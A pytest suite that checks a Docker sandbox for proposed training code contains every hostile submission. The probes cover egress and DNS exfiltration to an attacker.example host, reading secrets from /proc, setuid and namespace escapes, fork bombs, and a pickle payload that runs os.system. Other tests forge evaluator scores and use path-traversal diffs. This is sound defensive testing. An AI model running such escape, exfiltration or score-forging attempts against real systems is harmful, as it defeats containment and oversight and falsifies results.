"""Hostile proposals through the real path: each test submits a `train.py` that attacks the sandbox
and asserts that the attack failed, that the proposal ended in the right state with a clear reason,
and that nothing else changed (`Harness.assert_untouched`).

Most attacks are probes: the attack tries each way in, prints `ESCAPED: ...` for any that works
and `blocked: ...` for each that fails, and ends with `SystemExit("attack contained")`, so the
proposal ends `crashed` with that reason and the log names every attempt. The others end in the
state the sandbox gives them: `oom`, `timed_out`, `crashed` by a kill or a refused output,
`voided` by a failed evaluation, `rejected` by the committer, or a 4xx with nothing stored.
"""

import pytest

from services.worker.folders import MAX_OUTPUT_DEPTH
from tests.support.hostile import (
    BEST_BPB,
    LOG_TAIL_BYTES,
    MAX_LOG_BYTES,
    MAX_OUTPUT_BYTES,
    MODEL_TRAIN_PY,
    PIDS_LIMIT,
    TMPFS_BYTES,
    WALL_CLOCK_S,
    Harness,
    Ran,
    host_processes_with,
)

pytestmark = pytest.mark.docker

PRELUDE = """\
import ctypes, glob, os, resource, signal, socket, stat, subprocess, sys, threading, time
sys.stdout = sys.stderr  # one stream, so the log keeps the order of the lines
ESCAPES = []


def escaped(what):
    ESCAPES.append(what)
    print("ESCAPED:", what, flush=True)


def attempt(what, action):
    try:
        action()
    except (OSError, ValueError) as exc:
        print(f"blocked: {what}: {exc!r}", flush=True)
    else:
        escaped(what)


def write(path, data="pwned"):
    with open(path, "a") as f:
        f.write(data)


"""
EPILOGUE = """
raise SystemExit("attack ESCAPED: " + ", ".join(ESCAPES) if ESCAPES else "attack contained")
"""

# --------------------------------------------------------------------------------------------------
# Probes: each ends `crashed` with "attack contained" when every attempt was blocked

PROBES = {
    "tcp_egress": """
for host, port in [("1.1.1.1", 53), ("8.8.8.8", 443), ("172.17.0.1", 2375), ("10.0.0.1", 80)]:
    attempt(f"tcp {host}:{port}", lambda: socket.create_connection((host, port), timeout=2).close())
""",
    "udp_egress": """
def udp(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"exfiltrated", (host, port))
attempt("udp 8.8.8.8:53", lambda: udp("8.8.8.8", 53))
attempt("udp broadcast", lambda: udp("255.255.255.255", 9))
""",
    "dns_egress": """
attempt("resolve example.com", lambda: socket.getaddrinfo("example.com", 443))
attempt("resolve exfil.attacker.invalid", lambda: socket.getaddrinfo("secret.attacker.example", 53))
""",
    "network_interfaces": """
interfaces = sorted(os.listdir("/sys/class/net"))
print("interfaces:", interfaces)
if interfaces != ["lo"]:
    escaped(f"network interfaces {interfaces}")
""",
    "read_validation_data": """
for path in ["/val", "/data/val", "/data/val.jsonl", "/val/val.jsonl", "/eval-out", "/ckpt",
             "/opt/autoresearch/data", "/opt/autoresearch/val", "/var/lib/autoresearch", "/mnt", "/srv"]:
    if os.path.isfile(path) or (os.path.isdir(path) and os.listdir(path)):  # empty mount points are fine
        escaped(f"{path} has content")
marker = "@VAL_MARKER_REVERSED@"[::-1].encode()  # reversed, so this file does not contain it
for root in ["/data", "/opt/autoresearch", "/tmp", "/code", "/cache", "/out", "/home", "/root", "/run", "/var"]:
    for folder, _, names in os.walk(root):
        for name in names:
            try:
                with open(os.path.join(folder, name), "rb") as f:
                    data = f.read(1 << 20)
            except OSError:
                continue
            if marker in data:
                escaped(f"validation text in {folder}/{name}")
""",
    "read_other_runs": """
for path in ["@VICTIM@/out/model.safetensors", "@VICTIM@/train.log", "@RUNS@", "/runs", "/var/lib/autoresearch/runs"]:
    attempt(f"read {path}", lambda: os.listdir(path) if os.path.isdir(path) else open(path, "rb").read())
if "run-victim" in os.listdir("/out/.."):
    escaped("the runs folder is visible")
""",
    "read_host_file": """
attempt("read the host sentinel", lambda: open("@SENTINEL@").read())
attempt("read it through /proc/1/root", lambda: open("/proc/1/root@SENTINEL@").read())
attempt("read it through the out folder's parent", lambda: open("/out/../../host-sentinel.txt").read())
""",
    "write_root_and_system": """
for path in ["/pwned", "/etc/passwd", "/usr/local/lib/pwned", "/var/pwned", "/home/pwned"]:
    attempt(f"write {path}", lambda: write(path))
""",
    "write_code": """
attempt("append to /code/train.py", lambda: write("/code/train.py", "\\nprint('injected')\\n"))
attempt("create /code/evaluate.py", lambda: write("/code/evaluate.py"))
attempt("chmod /code/train.py", lambda: os.chmod("/code/train.py", 0o777))
attempt("unlink /code/train.py", lambda: os.unlink("/code/train.py"))
""",
    "write_data": """
attempt("create /data/pwned", lambda: write("/data/pwned"))
attempt("append to a token shard", lambda: write("/data/tokens_00000.npy"))
attempt("unlink a token shard", lambda: os.unlink("/data/tokens_00001.npy"))
""",
    "write_trainer_home": """
attempt("create a module next to the scorer", lambda: write("/opt/autoresearch/trainer/safetensors.py"))
for site in glob.glob("/opt/venv/lib/python*/site-packages"):
    attempt("plant sitecustomize.py", lambda: write(site + "/sitecustomize.py", "import os\\n"))
    attempt("plant a .pth hook", lambda: write(site + "/zz-pwn.pth", "import os\\n"))
""",
    "change_evaluate_py": """
path = "/opt/autoresearch/trainer/evaluate.py"
attempt("append", lambda: write(path, "\\nRESULT = 0.0\\n"))
attempt("chmod", lambda: os.chmod(path, 0o777))
attempt("rename", lambda: os.rename(path, "/tmp/evaluate.py"))
attempt("unlink", lambda: os.unlink(path))
attempt("utime", lambda: os.utime(path, (0, 0)))
""",
    "change_prepare_py": """
path = "/opt/autoresearch/trainer/prepare.py"
attempt("append", lambda: write(path))
attempt("truncate", lambda: os.truncate(path, 0))
attempt("unlink", lambda: os.unlink(path))
""",
    "change_tokenizer": """
for path in ["/data/tokenizer.json", "/data/token_bytes.npy"]:
    attempt(f"append {path}", lambda: write(path))
    attempt(f"truncate {path}", lambda: os.truncate(path, 0))
    attempt(f"replace {path}", lambda: os.rename("/code/train.py", path))
""",
    "docker_socket": """
for path in ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"]:
    if os.path.exists(path):
        escaped(f"{path} exists")
def unix(path):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(path)
attempt("connect /var/run/docker.sock", lambda: unix("/var/run/docker.sock"))
attempt("docker over tcp", lambda: socket.create_connection(("172.17.0.1", 2375), timeout=2).close())
if "DOCKER_HOST" in os.environ:
    escaped("DOCKER_HOST is set")
""",
    "environment_secrets": """
contract = {"AR_WALL_CLOCK_S", "AR_DEADLINE_UNIX", "AR_SEED", "AR_DATA_DIR", "AR_OUT_DIR", "AR_DEVICE",
            "AR_PRESET"}
print("environment keys:", sorted(os.environ))
for key, value in os.environ.items():
    if "@SECRET@" in value or key in ("AWS_SECRET_ACCESS_KEY", "AR_WORKER_SECRET", "AR_ADMIN_TOKEN"):
        escaped(f"secret in {key}")
    if key.startswith("AR_") and key not in contract:
        escaped(f"worker setting {key}")
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        if b"@SECRET@" in open(path, "rb").read():
            escaped(f"secret in {path}")
    except OSError:
        pass
""",
    "host_processes": """
pids = [p for p in os.listdir("/proc") if p.isdigit()]
commands = []
for pid in pids:
    try:
        commands.append(open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\\0", b" ").decode())
    except OSError:
        pass
print("processes:", commands)
if len(pids) > 4:
    escaped(f"{len(pids)} processes visible")
for command in commands:
    if any(word in command for word in ("pytest", "redis-server", "dockerd", "containerd", "systemd")):
        escaped(f"host process visible: {command}")
attempt("signal a host pid", lambda: os.kill(int(os.environ.get("NO_SUCH", "1")) + 40000, 0))
""",
    "capabilities": """
status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines() if ":" in line)
for key in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
    print(key, status[key].strip())
    if int(status[key].strip(), 16) != 0:
        escaped(f"{key} = {status[key].strip()}")
if status["NoNewPrivs"].strip() != "1":
    escaped("no_new_privs is off")
if os.geteuid() == 0 or os.getegid() == 0:
    escaped("running as root")
""",
    "setuid_escalation": """
attempt("setuid(0)", lambda: os.setuid(0))
attempt("setresuid(0, 0, 0)", lambda: os.setresuid(0, 0, 0))
attempt("setgid(0)", lambda: os.setgid(0))
attempt("setgroups([0])", lambda: os.setgroups([0]))
for binary in ["/bin/su", "/usr/bin/su", "/usr/bin/sudo", "/usr/bin/passwd", "/bin/mount", "/usr/bin/newgrp"]:
    if os.path.exists(binary) and os.stat(binary).st_mode & stat.S_ISUID:
        ran = subprocess.run([binary, "--help"], capture_output=True, timeout=5)
        # no_new_privs: the set-user-id bit is ignored on exec, so the binary runs as 65534
        print(binary, "exited", ran.returncode)
if os.geteuid() != 65534:
    escaped(f"euid {os.geteuid()}")
""",
    "namespaces_and_mount": """
libc = ctypes.CDLL(None, use_errno=True)
for name, flag in [("CLONE_NEWUSER", 0x10000000), ("CLONE_NEWNS", 0x00020000), ("CLONE_NEWNET", 0x40000000)]:
    if libc.unshare(flag) == 0:
        escaped(f"unshare({name})")
    else:
        print("blocked: unshare", name, os.strerror(ctypes.get_errno()))
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
    escaped("mount a tmpfs")
if libc.mount(b"/", b"/out", None, 4096, None) == 0:  # MS_BIND
    escaped("bind-mount / on /out")
""",
    "device_nodes": """
for device in ["/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/mem", "/dev/kmsg", "/dev/port"]:
    if os.path.exists(device):
        attempt(f"read {device}", lambda: open(device, "rb").read(1))
attempt("mknod a block device", lambda: os.mknod("/tmp/sda", 0o600 | stat.S_IFBLK, os.makedev(8, 0)))
""",
    "proc_and_sys_writes": """
for path in ["/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches",
             "/sys/kernel/uevent_helper", "/proc/self/oom_score_adj"]:
    attempt(f"write {path}", lambda: write(path, "-1000" if "oom" in path else "|/tmp/x"))
""",
    "cgroup_limits": """
for path in ["/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/pids.max", "/sys/fs/cgroup/memory/memory.limit_in_bytes",
             "/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/memory/release_agent", "/sys/fs/cgroup/release_agent",
             "/sys/fs/cgroup/cgroup.procs"]:
    attempt(f"write {path}", lambda: write(path, "max"))
""",
    "raise_rlimits": """
for name in ("RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_CORE"):
    limit = getattr(resource, name)
    print(name, resource.getrlimit(limit))
    attempt(f"raise {name}", lambda: resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)))
""",
    "fill_tmpfs": """
written = 0
try:
    while written < 64 * 1024 * 1024:  # 1 MiB files: one file is capped lower (RLIMIT_FSIZE)
        with open(f"/tmp/fill-{written}", "wb") as f:
            f.write(b"x" * (1 << 20))
        written += 1 << 20
except OSError as exc:
    print(f"blocked: /tmp full after {written} bytes: {exc!r}", flush=True)
if written > @TMPFS@:
    escaped(f"wrote {written} bytes to /tmp")
""",
    "one_file_past_the_cap": """
def big():
    with open("/out/huge.bin", "wb") as f:
        for _ in range(16):
            f.write(b"x" * (1 << 20))
attempt("one 16 MiB file in /out", big)
os.unlink("/out/huge.bin")
""",
    "fork_bomb": """
children = 0
try:
    while children < 5000:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError as exc:
    print(f"blocked: fork after {children} children: {exc!r}", flush=True)
if children >= @PIDS@:
    escaped(f"{children} processes")
""",
    "thread_bomb": """
threads = 0
try:
    while threads < 5000:
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
        threads += 1
except RuntimeError as exc:
    print(f"blocked: thread after {threads}: {exc!r}", flush=True)
if threads >= @PIDS@:
    escaped(f"{threads} threads")
os._exit(1) if ESCAPES else None
sys.stderr.write("attack contained\\n")
sys.stderr.flush()
os._exit(1)  # daemon threads stuck in sleep would hold interpreter shutdown
""",
}

# only look and check: they have nothing to be refused
NOTHING_TO_BLOCK = {"network_interfaces", "environment_secrets", "capabilities", "read_validation_data"}


@pytest.mark.parametrize("attack", sorted(PROBES))
def test_probe_attack_is_contained(hostile: Harness, attack: str) -> None:
    body = PROBES[attack].replace("@TMPFS@", str(TMPFS_BYTES)).replace("@PIDS@", str(PIDS_LIMIT))
    ran = hostile.run(PRELUDE + body + EPILOGUE, title=attack)
    assert "ESCAPED" not in ran.log, ran.log[-3000:]
    assert ran.state == "crashed", (ran.state, ran.reason, ran.log[-2000:])
    assert "attack contained" in ran.reason
    assert "blocked" in ran.log or attack in NOTHING_TO_BLOCK, ran.log[-2000:]
    hostile.assert_untouched(ran.id)


# --------------------------------------------------------------------------------------------------
# Resource attacks: the sandbox stops the run and says why


def test_memory_bomb_ends_oom(hostile: Harness) -> None:
    ran = hostile.run("hog = []\nwhile True:\n    hog.append(bytearray(64 << 20))\n")
    assert ran.state == "oom" and "out of memory" in ran.reason
    hostile.assert_untouched(ran.id)


def test_filling_out_past_the_cap_is_killed(hostile: Harness) -> None:
    code = (
        "import os, time\n"
        "for i in range(1000):\n"
        "    with open(f'/out/fill-{i}.bin', 'wb') as f:\n"
        "        f.write(b'x' * (512 << 10))\n"
        "    time.sleep(0.05)\n"
    )
    ran = hostile.run(code)
    assert ran.state == "crashed"
    assert f"stopped by the sandbox: output exceeded {MAX_OUTPUT_BYTES} bytes" in ran.reason
    hostile.assert_untouched(ran.id)


def test_stdout_and_stderr_flood_keeps_only_a_capped_tail(hostile: Harness) -> None:
    code = (
        "import sys, time\n"
        "line = 'x' * 1023 + '\\n'\n"
        "for _ in range(4000):\n"
        "    sys.stdout.write(line)\n"
        "    sys.stderr.write(line)\n"
        "sys.stdout.flush()\n"
        "time.sleep(0.5)  # stdout and stderr are two streams: let both drain before the last line\n"
        "raise SystemExit('flood over')\n"
    )
    ran = hostile.run(code)
    assert ran.state == "crashed" and "flood over" in ran.reason
    assert "[log cut:" in ran.log
    assert len(ran.log.encode()) <= MAX_LOG_BYTES + 100  # the kept bytes and the one-line notice
    tail = ran.detail["results"][0]["log_tail"]
    assert len(tail.encode()) <= LOG_TAIL_BYTES
    hostile.assert_untouched(ran.id)


def test_sleeping_past_the_wall_clock_times_out(hostile: Harness) -> None:
    code = "import os, time\nos.environ['AR_WALL_CLOCK_S'] = '100000'\nprint('sleeping', flush=True)\ntime.sleep(600)\n"
    ran = hostile.run(code)
    assert ran.state == "timed_out" and f"{WALL_CLOCK_S} s wall-clock limit" in ran.reason
    assert ran.detail["val_bpb"] is None  # never scored
    hostile.assert_untouched(ran.id)


def test_ignoring_sigterm_does_not_outlive_the_wall_clock(hostile: Harness) -> None:
    code = (
        "import signal, subprocess, time\n"
        "for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):\n"
        "    signal.signal(sig, signal.SIG_IGN)\n"
        "subprocess.Popen(['sh', '-c', 'trap \"\" TERM INT HUP; sleep 876543'])\n"
        "print('ignoring signals', flush=True)\n"
        "while True:\n"
        "    time.sleep(0.1)\n"
    )
    ran = hostile.run(code)
    assert ran.state == "timed_out"
    assert host_processes_with("876543") == []
    hostile.assert_untouched(ran.id)


def test_detached_double_forked_process_does_not_outlive_the_run(hostile: Harness) -> None:
    code = (
        "import os, subprocess\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        subprocess.Popen(['sleep', '987654'], start_new_session=True,\n"
        "                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        "    os._exit(0)\n"
        "os.wait()\n"
        "print('daemon started; leaving without outputs', flush=True)\n"
    )
    ran = hostile.run(code)
    assert ran.state == "crashed" and "missing model.safetensors" in ran.reason
    assert host_processes_with("987654") == []
    hostile.assert_untouched(ran.id)


# --------------------------------------------------------------------------------------------------
# Trees that a walk by path cannot see: deeper than PATH_MAX, thousands of levels deep. The cap counts
# every entry (by descriptor), once more after the container exits, and the worker removes them all.

DEEP_TREE = """\
import os


def deep_tree(top, depth, name, files):
    \"\"\"Folders `name` nested `depth` deep, each made relative to its parent's descriptor (no path
    the kernel sees is longer than `name`), then `files` empty files at the bottom.\"\"\"
    fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
    for level in range(depth):
        os.mkdir(name, dir_fd=fd)
        deeper = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = deeper
    print(f"{depth} levels deep", flush=True)
    for i in range(files):
        os.close(os.open(f"f{i}", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
    print(f"{files} files at the bottom", flush=True)
    os.close(fd)


"""
LONG_NAME = "d" * 255  # 17 levels of it are longer than PATH_MAX (4096)


def assert_crashed_by_the_cap(hostile: Harness, ran: Ran, cap: str) -> None:
    """`crashed` by the sandbox with `cap` named, never an infrastructure failure or a retry, and
    nothing of the tree left on the host."""
    assert ran.state == "crashed", (ran.state, ran.reason, ran.log[-2000:])
    assert f"stopped by the sandbox: {cap}" in ran.reason, ran.reason
    assert hostile.store.get(ran.id).attempts == 0
    assert len(ran.detail["results"]) == 1
    hostile.assert_outputs_removed(ran)
    hostile.assert_untouched(ran.id)


def test_a_tree_thousands_of_levels_deep_is_killed_and_removed(hostile: Harness) -> None:
    """The outside review's attack: 150,000 files under 2,100 levels; a walk by path never counted
    them and shutil.rmtree died of recursion (the run became a worker error, then infra_error)."""
    code = DEEP_TREE + f"deep_tree('/out', 2100, {LONG_NAME!r}, 150_000)\nimport time\ntime.sleep(600)\n"
    ran = hostile.run(code)
    assert_crashed_by_the_cap(hostile, ran, f"output nested deeper than {MAX_OUTPUT_DEPTH} levels")


@pytest.mark.parametrize(
    "hostile", [{"sandbox": {"poll_interval_s": 3600.0}, "settings": {"run_wall_clock_s": 90}}], indirect=True
)
def test_a_deep_tree_written_after_the_last_poll_is_caught_when_the_container_exits(hostile: Harness) -> None:
    """An honest model and outputs, then a deep tree in the compile cache, then exit 0 before any
    poll (polls are an hour apart here): the check after exit fails the run before collection."""
    code = DEEP_TREE + MODEL_TRAIN_PY.replace(
        '    print("done", flush=True)\n',
        f'    print("done", flush=True)\n    deep_tree("/cache", 1500, {LONG_NAME!r}, 2000)\n',
    )
    ran = hostile.run(code)
    assert "2000 files at the bottom" in ran.log, ran.log[-2000:]
    assert_crashed_by_the_cap(hostile, ran, f"output nested deeper than {MAX_OUTPUT_DEPTH} levels")
    assert ran.detail["val_bpb"] is None  # never evaluated


@pytest.mark.parametrize("hostile", [{"sandbox": {"max_output_files": 2000}}], indirect=True)
def test_files_beyond_path_max_count_towards_the_cap(hostile: Harness) -> None:
    """3,000 files 20 levels of 255-character names down (within the nesting limit, past PATH_MAX),
    where a walk by path could not stat them: every one counts."""
    code = DEEP_TREE + f"deep_tree('/out', 20, {LONG_NAME!r}, 3000)\nimport time\ntime.sleep(600)\n"
    ran = hostile.run(code)
    assert_crashed_by_the_cap(hostile, ran, "output exceeded 2000 files and folders")


# --------------------------------------------------------------------------------------------------
# Hostile outputs: collect refuses them; the host file behind a link is never read or changed

RUN_JSON = "open('/out/run.json', 'w').write('{\"config\": {}, \"steps\": 1}')\n"
WEIGHTS = "open('/out/model.safetensors', 'wb').write(b'weights')\n"

OUTPUTS = {
    "symlink_checkpoint_to_host": (
        f"import os\nos.symlink('@SENTINEL@', '/out/model.safetensors')\n{RUN_JSON}",
        "model.safetensors is a symlink",
    ),
    "symlink_run_json_to_host": (
        f"import os\n{WEIGHTS}os.symlink('@SENTINEL@', '/out/run.json')\n",
        "run.json is a symlink",
    ),
    "hard_link_checkpoint": (
        "import os\nopen('/out/real', 'wb').write(b'w')\nos.link('/out/real', '/out/model.safetensors')\n"
        + RUN_JSON,
        "model.safetensors is a hard link",
    ),
    "fifo_checkpoint": (
        f"import os\nos.mkfifo('/out/model.safetensors')\n{RUN_JSON}",
        "model.safetensors is not a regular file",
    ),
    "oversized_checkpoint": (
        f"open('/out/model.safetensors', 'wb').write(b'x' * (3 << 20))\n{RUN_JSON}",
        "model.safetensors is 3 MiB, over the 2 MiB cap",
    ),
    "run_json_not_an_object": (
        f"{WEIGHTS}open('/out/run.json', 'w').write('[1, 2, NaN]')\n",
        "run.json is not valid JSON",
    ),
}


@pytest.mark.parametrize("attack", sorted(OUTPUTS))
def test_hostile_output_is_refused_by_collect(hostile: Harness, attack: str) -> None:
    code, reason = OUTPUTS[attack]
    ran = hostile.run(code, title=attack)
    assert ran.state == "crashed" and reason in ran.reason, (ran.state, ran.reason, ran.log[-1000:])
    assert ran.detail["val_bpb"] is None
    hostile.assert_untouched(ran.id)


def test_hard_link_to_a_file_outside_out_is_refused_by_the_kernel(hostile: Harness) -> None:
    code = (
        PRELUDE
        + "for source in ['/code/train.py', '/data/tokenizer.json', '@SENTINEL@']:\n"
        + "    attempt(f'hard link {source}', lambda: os.link(source, '/out/model.safetensors'))\n"
        + EPILOGUE
    )
    ran = hostile.run(code)
    assert "ESCAPED" not in ran.log and ran.state == "crashed" and "attack contained" in ran.reason
    hostile.assert_untouched(ran.id)


# --------------------------------------------------------------------------------------------------
# The score comes from the evaluator alone


def test_pickle_checkpoint_is_never_unpickled(hostile: Harness) -> None:
    """model.safetensors holds a pickle whose loading would run a command; the evaluator loads
    safetensors only, so it fails to parse and the run is voided; the command never ran."""
    host_marker = hostile.settings.sandbox.runs_dir.parent / "pickle-ran-on-host"
    payload = f"touch /eval-out/pickle-ran /tmp/pickle-ran {host_marker}"
    code = MODEL_TRAIN_PY.replace(
        '    print("done", flush=True)\n',
        "    import pickle\n"
        "    class Payload:\n"
        "        def __reduce__(self):\n"
        f"            return (os.system, ({payload!r},))\n"
        "    with open(os.path.join(out, 'model.safetensors'), 'wb') as f:\n"
        "        pickle.dump(Payload(), f)\n",
    )
    ran = hostile.run(code)
    assert ran.state == "voided", (ran.state, ran.reason)
    assert "evaluation failed" in ran.reason
    assert not host_marker.exists()
    assert list(hostile.settings.sandbox.runs_dir.rglob("pickle-ran")) == []
    hostile.assert_untouched(ran.id)


FORGED_BPB = 0.000123


def test_forged_summary_and_result_lines_are_ignored(hostile: Harness) -> None:
    """The trainer prints the summary the evaluator would print and writes a result.json of its
    own; the stored score is the evaluator's measurement, and the committer rejects it."""
    forged = (
        f'    print("val_bpb: {FORGED_BPB}", flush=True)\n'
        f'    print("---\\nval_bpb:          {FORGED_BPB:.6f}\\nstatus: keep", flush=True)\n'
        f'    with open(os.path.join(out, "result.json"), "w") as f:\n'
        f'        json.dump({{"val_bpb": {FORGED_BPB}, "evaluator_version": "forged"}}, f)\n'
        "    for path in ('/eval-out/result.json', '/tmp/result.json'):\n"
        "        try:\n"
        f'            open(path, "w").write(\'{{"val_bpb": {FORGED_BPB}}}\')\n'
        "        except OSError:\n"
        "            pass\n"
    )
    code = MODEL_TRAIN_PY.replace('    print("done", flush=True)\n', forged)
    ran = hostile.run(code)
    assert ran.state == "rejected", (ran.state, ran.reason)
    scored = ran.detail["results"][0]["val_bpb"]
    assert scored is not None and scored > BEST_BPB and scored != pytest.approx(FORGED_BPB)
    assert ran.detail["val_bpb"] == scored
    assert ran.detail["results"][0]["fingerprint"]["evaluator_version"] != "forged"
    hostile.assert_untouched(ran.id)


def test_seed_only_change_is_rejected_by_the_committer(hostile: Harness) -> None:
    diff_body = MODEL_TRAIN_PY.replace("torch.manual_seed(seed)", "torch.manual_seed(seed + 1337)")
    ran = hostile.run(diff_body, title="better seed")
    assert ran.state == "rejected", (ran.state, ran.reason)
    assert "only touches seeding" in ran.reason
    hostile.assert_untouched(ran.id)


# --------------------------------------------------------------------------------------------------
# Diffs that reach beyond trainer/train.py: 4xx, nothing stored, nothing queued

HUNK = "@@ -1 +1 @@\n-import json\n+import json, os\n"
BAD_DIFFS = {
    "path_traversal": f"--- a/../../etc/passwd\n+++ b/../../etc/passwd\n{HUNK}",
    "traversal_through_trainer": f"--- a/trainer/../trainer/evaluate.py\n+++ b/trainer/../trainer/evaluate.py\n{HUNK}",
    "absolute_path": f"--- /etc/passwd\n+++ /etc/passwd\n{HUNK}",
    "other_fixed_file": f"--- a/trainer/prepare.py\n+++ b/trainer/prepare.py\n{HUNK}",
    "second_file": (
        f"--- a/trainer/train.py\n+++ b/trainer/train.py\n{HUNK}"
        f"--- a/trainer/evaluate.py\n+++ b/trainer/evaluate.py\n{HUNK}"
    ),
    "git_rename": (
        "diff --git a/trainer/train.py b/trainer/evaluate.py\nrename from trainer/train.py\n"
        f"rename to trainer/evaluate.py\n--- a/trainer/train.py\n+++ b/trainer/evaluate.py\n{HUNK}"
    ),
}


@pytest.mark.parametrize("attack", sorted(BAD_DIFFS))
def test_diff_touching_other_paths_is_refused(hostile: Harness, attack: str) -> None:
    body = {"title": attack, "agent": "hostile", "diff": BAD_DIFFS[attack], "base_commit": hostile.head}
    response = hostile.api.post("/v1/proposals", json=body)
    assert 400 <= response.status_code < 500, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    assert response.json()["detail"]
    assert hostile.proposal_count() == 0
    hostile.assert_untouched("none")


def test_an_honest_diff_of_the_same_shape_is_accepted(hostile: Harness) -> None:
    """The control for the refused diffs: the same hunk on trainer/train.py is stored."""
    body = {"title": "ok", "agent": "a", "diff": f"--- a/trainer/train.py\n+++ b/trainer/train.py\n{HUNK}"}
    response = hostile.api.post("/v1/proposals", json=body)
    assert response.status_code == 201, response.text
